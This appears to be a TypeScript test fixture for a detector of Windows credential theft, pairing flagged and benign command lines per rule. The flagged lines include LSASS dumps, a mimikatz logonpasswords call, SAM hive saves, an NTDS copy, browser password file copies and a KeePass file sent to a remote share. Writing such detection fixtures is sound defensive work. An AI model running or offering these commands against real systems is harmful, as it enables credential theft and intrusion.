import type { Examples } from "../example.ts";
import { inArea, starts } from "./build.ts";

export const CREDENTIAL_EXAMPLES: Examples = inArea({
  "lsass-dumped": starts(
    String.raw`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 688 C:\Users\Public\l.dmp full`,
    String.raw`procdump64.exe -accepteula -ma w3wp.exe D:\dumps\w3wp.dmp`,
  ),
  "process-memory-dumped": starts(
    String.raw`procdump.exe -ma 4120 D:\dumps\app.dmp`,
    "procdump.exe -accepteula -i -u",
  ),
  "credential-tool": starts(
    `m.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
    String.raw`"C:\Program Files\Microsoft VS Code\Code.exe" D:\notes\mimikatz-notes.md`,
  ),
  "registry-hive-saved": starts(
    String.raw`reg save HKLM\SAM C:\temp\s.hiv`,
    String.raw`reg export HKLM\SYSTEM\CurrentControlSet\Services\Tcpip D:\backup\tcpip.reg`,
  ),
  "directory-database-copied": starts(
    String.raw`ntdsutil "ac i ntds" "ifm" "create full c:\temp\n" q q`,
    `ntdsutil roles connections "connect to server DC01" quit quit quit`,
  ),
  "file-copied-past-locks": starts(
    String.raw`cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\data\a.db C:\out\a.db`,
    String.raw`esentutl /g D:\mail\priv1.edb`,
  ),
  "shadow-copy-made": starts("vssadmin create shadow /for=C:", "vssadmin list shadows"),
  "kerberos-tickets-asked": starts("setspn -T CORP -Q */*", "setspn -Q HTTP/web01.corp.example"),
  "hash-or-ticket-passed": starts(
    "r.exe ptt /ticket:doIFuj",
    String.raw`robocopy D:\slides E:\slides /ptt2025`,
  ),
  "group-policy-passwords-searched": starts(
    String.raw`findstr /S /I cpassword \\corp.example\sysvol\corp.example\policies\*.xml`,
    String.raw`findstr /S /I DisplayName \\corp.example\sysvol\corp.example\policies\*.xml`,
  ),
  "passwords-searched": starts(
    String.raw`findstr /si password C:\*.txt C:\*.ini`,
    String.raw`findstr /s /i /n password *.cs`,
  ),
  "answer-file-read": starts(
    String.raw`cmd /c type C:\Windows\Panther\Unattend.xml`,
    String.raw`sysprep.exe /generalize /oobe /unattend:C:\Deploy\unattend.xml`,
  ),
  "passwords-in-registry-searched": starts(
    "reg query HKLM /f password /t REG_SZ /s",
    String.raw`reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Shell`,
  ),
  "stored-credentials-listed": starts("cmdkey /list", "cmdkey /delete:TERMSRV/fs01"),
  "stored-credentials-added": starts(
    "cmdkey /add:fs01 /user:CORP\\svc /pass:Winter1",
    "cmdkey /list",
  ),
  "browser-passwords-read": starts(
    String.raw`cmd /c copy "C:\Users\a\AppData\Local\Google\Chrome\User Data\Default\Login Data" C:\Users\Public\l`,
    String.raw`cmd /c dir "C:\Users\a\AppData\Local\Google\Chrome\User Data\Default"`,
  ),
  "password-store-read": starts(
    String.raw`xcopy C:\Users\a\Documents\team.kdbx \\10.0.0.9\x`,
    String.raw`"C:\Program Files\KeePass Password Safe 2\KeePass.exe" C:\Users\a\Documents\team.kdbx`,
  ),
  "wireless-keys-shown": starts(
    "netsh wlan show profile name=Office key=clear",
    "netsh wlan show profile name=Office",
  ),
});
